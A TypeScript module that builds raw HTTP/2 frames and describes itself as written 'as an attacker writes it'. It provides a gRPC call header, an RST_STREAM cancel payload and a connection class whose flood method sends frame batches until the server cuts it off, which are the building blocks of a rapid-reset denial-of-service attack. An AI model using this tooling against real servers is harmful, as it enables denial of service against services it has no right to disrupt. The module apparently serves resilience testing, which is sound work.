// HTTP/2 as an attacker writes it: frames by hand, over plaintext.

import { connect, type Socket } from "node:net";

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/** Types of frames. */
export const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [0, 1, 3, 4, 6, 9];
/** Flags. */
export const [END_STREAM, END_HEADERS] = [1, 4];

export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header block without compression; names and values of at most 126 characters. */
export function block(headers: Record<string, string>): Buffer {
  const text = (value: string) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  return Buffer.concat(Object.entries(headers).flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]));
}

/** The header block of a gRPC call. */
export const CALL = (path: string) =>
  block({
    ":method": "POST",
    ":scheme": "http",
    ":path": path,
    ":authority": "x",
    "content-type": "application/grpc",
    te: "trailers",
  });
/** Content of RST_STREAM. */
export const CANCEL = Buffer.from([0, 0, 0, 8]);

/** A connection that speaks raw frames. */
export class RawConnection {
  closed = false;
  private readonly socket: Socket;

  constructor(address: string) {
    const [host = "", port] = address.split(":");
    this.socket = connect(Number(port), host);
    this.socket.on("error", () => undefined);
    this.socket.on("close", () => {
      this.closed = true;
    });
    this.socket.resume();
    this.send(Buffer.from(PREFACE), frame(SETTINGS, 0, 0));
  }

  send(...frames: Buffer[]): void {
    this.socket.write(Buffer.concat(frames));
  }

  /** Sends what `make` gives for 0, 1, 2 and so on, in blocks, until it is cut off. */
  async flood(make: (i: number) => Buffer, most: number): Promise<number> {
    for (let i = 0; i < most; i += 100) {
      if (this.closed) return i;
      this.send(...Array.from({ length: 100 }, (_, k) => make(i + k)));
      await new Promise((resolve) => setImmediate(resolve));
    }
    return most;
  }

  destroy(): void {
    this.socket.destroy();
  }
}

/** Of the i-th call of a client. */
export const streamId = (i: number): number => 2 * i + 1;
